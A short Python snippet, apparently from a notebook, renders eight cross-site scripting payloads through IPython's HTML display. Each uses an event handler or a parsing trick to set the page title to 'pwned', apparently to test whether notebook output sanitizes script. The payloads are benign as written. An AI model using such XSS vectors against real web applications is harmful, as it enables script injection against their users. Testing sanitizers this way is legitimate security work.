from IPython.display import HTML, display

for text in (
    "<img src=x onerror=\"document.title='pwned'\">",
    "<div onmouseover='document.title=`pwned`' style='position:fixed;inset:0'>table</div>",
    "<body onload=document.title='pwned'>",
    "<details open ontoggle=document.title='pwned'>",
    "<input autofocus onfocus=document.title='pwned'>",
    "<video><source onerror=document.title='pwned'></video>",
    "<img/src=x/onerror=document.title='pwned'>",
    "<p\x0bonclick=document.title='pwned'>click</p>",
):
    display(HTML(text))
